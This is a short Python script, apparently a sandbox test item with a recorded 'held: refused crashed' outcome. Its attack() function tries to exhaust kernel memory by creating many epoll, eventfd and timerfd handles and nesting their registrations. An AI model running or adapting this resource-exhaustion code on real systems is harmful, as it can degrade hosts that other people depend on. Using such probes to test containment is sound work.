"""Goal: keep kernel memory busy by nested epolls, events and timers"""
# held: refused crashed

import ctypes, select

libc = ctypes.CDLL(None)

def attack():
    made = []
    for make in (select.epoll, lambda: libc.eventfd(1 << 30, 0), lambda: libc.timerfd_create(1, 0)):
        for _ in range(100):
            made.append(make())
    nested = [item for item in made if isinstance(item, select.epoll)]
    for outer in nested:
        for inner in made:
            try:
                outer.register(inner, 0xFFFF)
            except (OSError, ValueError):
                pass
    return len(nested) > 256 or sum(isinstance(fd, int) and fd >= 0 for fd in made) > 256
